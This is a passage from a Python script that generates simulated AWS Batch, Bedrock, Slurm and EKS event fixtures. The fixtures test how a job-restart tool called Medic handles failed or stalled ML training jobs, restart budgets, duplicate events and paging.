                                 "value": f"s3://ml-checkpoints-123456789012/pretrain/{name.split('-r')[0]}/"}],
                "resourceRequirements": [{"type": "GPU", "value": "8"}, {"type": "VCPU", "value": "96"},
                                         {"type": "MEMORY", "value": "1000000"}],
                "instanceType": "p4d.24xlarge"}}]}
    else:
        detail["jobDefinition"] = "arn:aws:batch:us-west-2:123456789012:job-definition/eval-single:3"
        detail["container"] = {"image": "123456789012.dkr.ecr.us-west-2.amazonaws.com/eval:2.0",
                               "command": ["python", "eval.py"],
                               "resourceRequirements": [{"type": "VCPU", "value": "4"},
                                                        {"type": "MEMORY", "value": "16384"}],
                               "exitCode": exit_code, "reason": reason}
    return {"version": "0", "id": event_id or str(uuid.uuid5(uuid.NAMESPACE_URL, f"medic-sim/batch/{job_id}/{at}")),
            "detail-type": "Batch Job State Change", "source": "aws.batch", "account": "123456789012",
            "time": at.strftime("%Y-%m-%dT%H:%M:%SZ"), "region": "us-west-2", "resources": [detail["jobArn"]],
            "detail": detail}


# --- Amazon Bedrock (issue 34): "Model Customization Job State Change" in the envelope of AWS's documented sample
# (tests/fixtures/events/aws-docs-bedrock-model-customization-job-state-change.json).
BEDROCK_ROLE = "arn:aws:iam::123456789012:role/BedrockCustomization"
SERVICE_ERROR = "InternalServerException: An internal service error occurred. Please retry the job."


def bedrock_job(name: str, created: datetime) -> dict:
    """A customization job as GetModelCustomizationJob returns it (a directive: the world's job, with its tags)."""
    return {"jobName": name, "outputModelName": f"{name}-model", "roleArn": BEDROCK_ROLE, "status": "InProgress",
            "jobArn": bedrock_arn(name),
            "creationTime": created.strftime("%Y-%m-%dT%H:%M:%SZ"),
            "baseModelArn": "arn:aws:bedrock:us-west-2::foundation-model/meta.llama3-1-8b-instruct-v1:0",
            "customizationType": "CONTINUED_PRE_TRAINING", "hyperParameters": {"epochCount": "2"},
            "trainingDataConfig": {"s3Uri": "s3://ml-data-123456789012/cpt/train/"},
            "validationDataConfig": {"validators": [{"s3Uri": "s3://ml-data-123456789012/cpt/valid/"}]},
            "outputDataConfig": {"s3Uri": "s3://ml-artifacts-123456789012/cpt/"}, "tags": {"team": "nlp"}}


def bedrock_arn(name: str) -> str:
    """A job's ARN as botocore's bedrock model has it (model-customization-job/<base model>/<id>)."""
    return ("arn:aws:bedrock:us-west-2:123456789012:model-customization-job/meta.llama3-1-8b-instruct-v1:0/"
            f"{bedrock_job_id(name)}")


def bedrock_failed(name: str, at: datetime, message: str = SERVICE_ERROR) -> dict:
    arn = bedrock_arn(name)
    return {"version": "0", "id": str(uuid.uuid5(uuid.NAMESPACE_URL, f"medic-sim/bedrock/{name}/{at}")),
            "detail-type": "Model Customization Job State Change", "source": "aws.bedrock",
            "account": "123456789012", "time": at.strftime("%Y-%m-%dT%H:%M:%SZ"), "region": "us-west-2",
            "resources": [arn], "detail": {
                "version": "0.0", "jobName": name, "jobArn": arn, "outputModelName": f"{name}-model",
                "roleArn": BEDROCK_ROLE, "jobStatus": "Failed", "failureMessage": message,
                "creationTime": (at - timedelta(hours=6)).strftime("%Y-%m-%dT%H:%M:%SZ"),
                "endTime": at.strftime("%Y-%m-%dT%H:%M:%SZ")}}


def batch_running(name: str, job_id: str, at: datetime) -> dict:
    """The job's RUNNING state change (a clone Medic submitted, started): startedAt is when it left STARTING
    (botocore's batch model, JobDetail.startedAt)."""
    event = batch_failed(name, job_id, at)
    detail, millis = event["detail"], int(at.timestamp() * 1000)
    for member in ("statusReason", "stoppedAt"):
        detail.pop(member)
    detail.update(status="RUNNING", attempts=[], startedAt=millis, createdAt=millis - 600_000)
    event["id"] = str(uuid.uuid5(uuid.NAMESPACE_URL, f"medic-sim/batch/{job_id}/running/{at}"))
    return event


def bedrock_running(name: str, at: datetime) -> dict:
    """A customization job's InProgress state change (the status a job has from its creation)."""
    event = bedrock_failed(name, at)
    detail = event["detail"]
    for member in ("failureMessage", "endTime"):
        detail.pop(member)
    detail.update(jobStatus="InProgress", creationTime=at.strftime("%Y-%m-%dT%H:%M:%SZ"))
    event["id"] = str(uuid.uuid5(uuid.NAMESPACE_URL, f"medic-sim/bedrock/{name}/running/{at}"))
    return event


def clone_running_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """A Batch or Bedrock restart's incident line waits for the clone to run (its own state change event), as a
    SageMaker restart's waits for its clone to train."""
    first_id = "9b2f6c1e-4a7d-4e3b-8c5f-0d1e2a3b4c5d"
    r1, r2 = f"{BATCH_JOB}-r1", f"{BATCH_JOB}-r2"
    r1_id, r2_id = submitted_job_id(r1), submitted_job_id(r2)
    running = batch_running(r1, r1_id, T_BATCH + timedelta(minutes=10))
    impostor = batch_running(r1, "6f6f6f6f-0000-4000-8000-000000000006", T_BATCH + timedelta(minutes=12))
    return {
        "zzzu-batch-clone-running-closes-the-incident.jsonl": ([
            "title: (zzzu) AWS Batch: Medic's restart runs 10 minutes after the failure -> its incident line is "
            "written then, with its resume; the redelivered RUNNING event and another job of the clone's name "
            "running write nothing",
            "config: managed-jobs.medic.yaml",
            "expect: one SubmitJob of pt-llama-0007-r1; no incident line until its RUNNING; then one batch_job line "
            "resumed 600 s after the fault (its startedAt), restarted at the call",
            "check: records .outcome == executed",
            "check: incidents == 1",
            "check: incidents incident_kind=batch_job incident=batch-job:pt-llama-0007 .time_to_resume_s == 600",
            "check: incidents incident_kind=batch_job .time_to_act_s == 0",
            "check: incidents incident_kind=batch_job .resolved_at == 2026-11-22T03:22:40+00:00",
            "check: pages == 0",
        ], [{"sim": {"s3_put": BATCH_CHECKPOINT}}, batch_failed(BATCH_JOB, first_id, T_BATCH),
            {"sim": {"advance": "+10m"}}, running, running, {"sim": {"advance": "+2m"}}, impostor]),
        "zzzv-batch-clone-fails-before-running.jsonl": ([
            "title: (zzzv) AWS Batch: Medic's restart fails on a terminated host before it ever runs -> the first "
            "restart's line ends without a resume; the clone's failure is restart 2 of the lineage, whose line "
            "closes when it runs",
            "config: managed-jobs.medic.yaml",
            "expect: r1 and r2 submitted (attempts 1, 2); two batch_job lines: r1's without a resume, r2's resumed "
            "when it runs",
            "check: records .outcome == executed, executed",
            "check: records .attempt == 1, 2",
            "check: incidents incident_kind=batch_job == 2",
            "check: incidents incident_kind=batch_job resumed_at=null == 1",
            "check: incidents incident_kind=batch_job .time_to_resume_s == null, 600",
            "check: batch_jobs .name == pt-llama-0007-r1, pt-llama-0007-r2",
            "check: pages == 0",
        ], [{"sim": {"s3_put": BATCH_CHECKPOINT}}, batch_failed(BATCH_JOB, first_id, T_BATCH),
            {"sim": {"advance": "+15m"}}, batch_failed(r1, r1_id, T_BATCH + timedelta(minutes=15)),
            {"sim": {"advance": "+10m"}}, batch_running(r2, r2_id, T_BATCH + timedelta(minutes=25))]),
        "zzzw-bedrock-clone-in-progress-closes-the-incident.jsonl": ([
            "title: (zzzw) Amazon Bedrock: the job Medic created again is InProgress -> its incident line is "
            "written with its resume; the work it repeats is in the record",
            "config: managed-jobs.medic.yaml",
            "expect: cpt-llama-0003-r1 created from scratch; one bedrock_job line resumed 120 s after the fault",
            "check: records .outcome == executed",
            "check: records outcome=executed reason~\"repeats the failed job's 6.0 h of training\" == 1",
            "check: incidents == 1",
            "check: incidents incident_kind=bedrock_job incident=bedrock-job:cpt-llama-0003 .time_to_resume_s == 120",
            "check: pages == 0",
        ], [{"sim": {"bedrock_job": bedrock_job("cpt-llama-0003", T_BATCH - timedelta(hours=6))}},
            bedrock_failed("cpt-llama-0003", T_BATCH), {"sim": {"advance": "+2m"}},
            bedrock_running("cpt-llama-0003-r1", T_BATCH + timedelta(minutes=2))]),
    }


def batch_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """AWS Batch jobs beside SageMaker's (issue 34): restart from a checkpoint, a job's own failure, redelivery,
    budgets per lineage."""
    first_id = "9b2f6c1e-4a7d-4e3b-8c5f-0d1e2a3b4c5d"
    failed = batch_failed(BATCH_JOB, first_id, T_BATCH)
    r1_id, r2_id = submitted_job_id(f"{BATCH_JOB}-r1"), submitted_job_id(f"{BATCH_JOB}-r2")
    other = batch_failed("pt-llama-0099", "1c2d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f", T_BATCH + timedelta(hours=1))
    return {
        "zzzh-batch-mnp-host-terminated.jsonl": ([
            "title: (zzzh) AWS Batch: a multi-node parallel job fails on a terminated host after Batch's own retries; "
            "its checkpoint is in S3 -> resubmitted once; the redelivered event is a duplicate",
            "config: managed-jobs.medic.yaml",
            "expect: one SubmitJob of pt-llama-0007-r1: the exact job definition revision, queue, parameters, the "
            "node ranges, timeout, scheduling priority and share identifier; then duplicate; no page",
            "check: records .outcome == executed, duplicate",
            "check: records outcome=executed reason~\"Batch made 2 attempt(s)\" == 1",
            "check: batch_jobs name=pt-llama-0007-r1 queue=gpu-training == 1",
            "check: batch_jobs request.jobDefinition=arn:aws:batch:us-west-2:123456789012:job-definition/"
            "pretrain-mnp:7 request.shareIdentifier=pretrain request.schedulingPriorityOverride=50 "
            "request.nodeOverrides.numNodes=4 request.timeout.attemptDurationSeconds=172800 == 1",
            "check: batch_jobs request.tags.medic:lineage=pt-llama-0007 request.tags.team=pretrain == 1",
            "check: calls batch:SubmitJob == 1",
            "check: pages == 0",
        ], [{"sim": {"s3_put": BATCH_CHECKPOINT}}, failed, {"sim": {"advance": "+2m"}}, failed]),
        "zzzi-batch-own-exit-pages.jsonl": ([
            "title: (zzzi) AWS Batch: a job fails with its own non-zero exit (no infrastructure reason) -> page, "
            "no restart",
            "config: managed-jobs.medic.yaml",
            "expect: deferred (not retryable: job_exit_code), one page quoting Batch's reasons, no SubmitJob",
            "check: records .outcome == deferred",
            "check: records .why == not_retryable",
            "check: calls batch:SubmitJob == 0",
            "check: pages == 1",
        ], [{"sim": {"s3_put": BATCH_CHECKPOINT}},
            batch_failed("pt-eval-0003", "5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9", T_BATCH,
                         reason="Essential container in task exited", exit_code=1, mnp=False)]),
        "zzzj-batch-budget-per-lineage.jsonl": ([
            "title: (zzzj) AWS Batch: a lineage's restarts fail the same way until its budget (max_restarts 2) is "
            "spent; another job's lineage has its own budget",
            "config: managed-jobs.medic.yaml",
            "expect: r1 and r2 submitted, the third failure suppressed with one page; pt-llama-0099's own r1 "
            "submitted",
            "check: records .outcome == executed, executed, suppressed, executed",
            "check: records .attempt == 1, 2, 3, 1",
            "check: records outcome=suppressed why=budget_spent paged=true == 1",
            "check: batch_jobs .name == pt-llama-0007-r1, pt-llama-0007-r2, pt-llama-0099-r1",
            "check: pages == 1",
        ], [{"sim": {"s3_put": BATCH_CHECKPOINT}},
            {"sim": {"s3_put": "s3://ml-checkpoints-123456789012/pretrain/pt-llama-0099/step-100/model.pt"}},
            failed, batch_failed(f"{BATCH_JOB}-r1", r1_id, T_BATCH + timedelta(minutes=30)),
            batch_failed(f"{BATCH_JOB}-r2", r2_id, T_BATCH + timedelta(minutes=50)), other]),
        "zzzk-bedrock-service-error.jsonl": ([
            "title: (zzzk) Amazon Bedrock: two customization jobs fail with a service error; one entry allows a "
            "restart from scratch, the other does not; the first event is delivered twice",
            "config: managed-jobs.medic.yaml",
            "expect: cpt-llama-0003 created again as cpt-llama-0003-r1 (custom model cpt-llama-0003-model-r1), the "
            "record saying it starts over; the redelivery a duplicate; sft-mistral-0001 suppressed with one page "
            "saying a restart would start over",
            "check: records .outcome == executed, duplicate, suppressed",
            "check: records outcome=executed reason~\"from scratch\" == 1",
            "check: records outcome=suppressed why=no_checkpoint paged=true == 1",
            "check: bedrock_jobs name=cpt-llama-0003-r1 model=cpt-llama-0003-model-r1 == 1",
            "check: bedrock_jobs request.roleArn=arn:aws:iam::123456789012:role/BedrockCustomization "
            "request.customizationType=CONTINUED_PRE_TRAINING == 1",
            "check: calls bedrock:CreateModelCustomizationJob == 1",
            "check: pages message~\"a restart starts over\" == 1",
            "check: pages == 1",
        ], [{"sim": {"bedrock_job": bedrock_job("cpt-llama-0003", T_BATCH - timedelta(hours=6))}},
            {"sim": {"bedrock_job": bedrock_job("sft-mistral-0001", T_BATCH - timedelta(hours=6))}},
            bedrock_failed("cpt-llama-0003", T_BATCH), {"sim": {"advance": "+2m"}},
            bedrock_failed("cpt-llama-0003", T_BATCH),
            bedrock_failed("sft-mistral-0001", T_BATCH + timedelta(minutes=5))]),
    }


def watch_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """Watch by pattern (issue 33): runs no jobs[] entry names, matching a cluster's watch rule, found by the
    reconciler's sweep of their `Run` reports and restarted exactly (a Slurm job id; an owner in an opted-in
    namespace)."""
    run = "gpt-sweep-7"
    slurm = {"cluster": "pretrain-slurm", "slurm_job_id": 5120}
    # 40 steps a minute from 03:00 to 03:05 (checkpoint 1200), then a hang: the process lives and reports no step
    stepping = every_minute(T_ALARM, T_ALARM + minutes(5), job=run, **slurm, steps=40, step=1240, loss=1.87,
                            checkpoint=1200)
    hung = every_minute(T_ALARM + minutes(6), T_ALARM + minutes(15), job=run, **slurm, steps=0)
    killed = [clock(T_ALARM + minutes(15) + timedelta(seconds=30)), {"sim": {"probe": {"job": run, **slurm,
                                                                                      "close": "killed"}}}]
    resumed = every_minute(T_ALARM + minutes(19), T_ALARM + minutes(20), job=run, **slurm, steps=25, step=1225,
                           loss=1.9, new_process=True)
    return {
        "zzzl-watch-slurm-run-requeued-by-job-id.jsonl": ([
            "title: (zzzl) Watch by pattern, Slurm: gpt-sweep-7 (Slurm job 5120), which no jobs[] entry names, matches "
            "pretrain-slurm's watch rule gpt-; it hangs after step 1240 at 03:05 -> the reconciler's sweep finds it "
            "stalled -> requeued by its job id -> resumes from the checkpoint -> proven recovered",
            "config: watch.medic.yaml",
            "expect: the 03:15 reconciler run reads the cluster's runs (ListMetrics on Run, one GetMetricData), finds "
            "gpt-sweep-7 without a step for 10 min (its rule's stall_minutes is 7), reads the heartbeat back and "
            "queues `requeue_job` for job 5120 (not the name): deferred, then executed by the agent; the restarted "
            "process steps from 03:19 and the recovery is proven (resumed from 1200); no page; no alarm of its own",
            "check: records action=requeue_job job=5120 .outcome == deferred, executed",
            "check: records trigger=reconcile fault=stalled action=requeue_job outcome=deferred == 1",
            "check: records fault=recovered == 1",
            "check: slurm_commands argv=\"scontrol requeue 5120\" == 1",
            "check: pages == 0",
        ], [clock(T_ALARM), {"sim": {"slurm_job": {"cluster": "pretrain-slurm", "id": 5120, "name": run}}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            *stepping, *hung, *killed, *resumed]),
        "zzzo-watch-runs-unreadable.jsonl": ([
            "title: (zzzo) Watch by pattern: the reconciler may not read CloudWatch metrics (its role lost "
            "cloudwatch:ListMetrics) from 03:00, so neither cluster's pattern-watched runs can be seen",
            "config: watch.medic.yaml",
            "fault: cloudwatch:ListMetrics=AccessDeniedException:99",
            "expect: the 03:05 run records watch_unreadable (failed) for each cluster with watch rules and pages once "
            "for each, naming the rules it cannot watch; the runs after it that day say nothing more",
            "check: records .fault == watch_unreadable, watch_unreadable",
            "check: records cluster=pretrain-slurm outcome=failed paged=true timestamp~T03:05:00 == 1",
            "check: records cluster=finetune-eks outcome=failed paged=true timestamp~T03:05:00 == 1",
            "check: pages subject~\"cannot be read\" == 2",
            "check: pages == 2",
        ], [clock(T_ALARM), {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            {"sim": {"advance": "+20m"}}]),
        **eks_watch_scenarios(),
    }


def eks_watch_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """Watch by pattern on EKS: a run in the opted-in namespace team-a is restarted; one in another is paged."""
    eks = "finetune-eks"

    def run_of(namespace: str) -> tuple[list[dict], list[dict], list[dict]]:
        pod = {"cluster": eks, "pod": f"{namespace}/gpt-ft-master-0"}
        # the PyTorchJob exists in the namespace; no jobs[] entry and no `k8s_job` watch names it (watched: false)
        setup = [clock(T_ALARM), {"sim": {"k8s_job": {"cluster": eks, "namespace": namespace, "name": "gpt-ft",
                                                      "kind": "PyTorchJob", "replicas": 2, "watched": False}}},
                 {"sim": {"agent": {"cluster": eks, "heartbeat": True}}}]
        # steps until 03:05 (checkpoint 1200), then silence: its process died (no Run report either)
        stepping = every_minute(T_ALARM, T_ALARM + minutes(5), job="gpt-ft", **pod, steps=40, step=1240, loss=1.9,
                                checkpoint=1200)
        resumed = every_minute(T_ALARM + minutes(19), T_ALARM + minutes(20), job="gpt-ft", **pod, steps=25, step=1225,
                               loss=1.9, new_process=True)
        return setup, stepping, resumed

    opted, opted_steps, opted_resumed = run_of("team-a")
    other, other_steps, _ = run_of("team-b")
    return {
        "zzzm-watch-eks-run-restarted-in-opted-in-namespace.jsonl": ([
            "title: (zzzm) Watch by pattern, EKS: gpt-ft, a PyTorchJob in team-a (opted in by finetune-eks's watch "
            "rule gpt-), which no jobs[] entry names, stops stepping at 03:05 -> the reconciler's sweep -> the EKS "
            "agent restarts it (RBAC get on pytorchjobs in team-a without resourceNames) -> resumed -> recovered",
            "config: watch.medic.yaml",
            "expect: the 03:15 reconciler run finds gpt-ft (pod team-a/gpt-ft-master-0, owner PyTorchJob/gpt-ft) "
            "without a step for 10 min: restart_job of PyTorchJob/team-a/gpt-ft deferred, then executed (the agent "
            "deletes its 2 pods, the training-operator recreates them); training resumes at 03:19: recovered; no page",
            "check: records action=restart_job .outcome == deferred, executed",
            "check: records trigger=reconcile action=restart_job outcome=deferred reason~PyTorchJob/team-a/gpt-ft == 1",
            "check: kubernetes_calls verb=delete == 2",
            "check: records fault=recovered == 1",
            "check: pages == 0",
        ], [*opted, *opted_steps, clock(T_ALARM + minutes(16)), *opted_resumed]),
        "zzzn-watch-eks-run-outside-opted-in-namespaces-paged.jsonl": ([
            "title: (zzzn) Watch by pattern, EKS: gpt-ft in team-b, a namespace no watch rule opts in, stops stepping "
            "at 03:05 -> the reconciler's sweep finds it stalled -> one page, no restart",
            "config: watch.medic.yaml",
            "expect: at 03:15 one deferred record (human_decides) naming team-b as not opted in, paged once; no "
            "restart_job, no command queued, no pod deleted; the later sweeps (03:20, 03:25) are quiet",
            "check: records fault=stalled outcome=deferred why=human_decides reason~\"not one the operator opted in\" "
            "== 1",
            "check: records action=restart_job == 0",
            "check: calls sqs:SendMessage == 0",
            "check: kubernetes_calls verb=delete == 0",
            "check: pages == 1",
        ], [*other, *other_steps, clock(T_ALARM + minutes(26))]),
    }


def main() -> None:
    for name, (header, items) in scenarios().items():
        lines = [f"# {line}" for line in header] + [json.dumps(item) for item in items]
        (HERE / name).write_text("\n".join(lines) + "\n")
        print(f"wrote {name} ({len(items)} lines)")


if __name__ == "__main__":
    main()
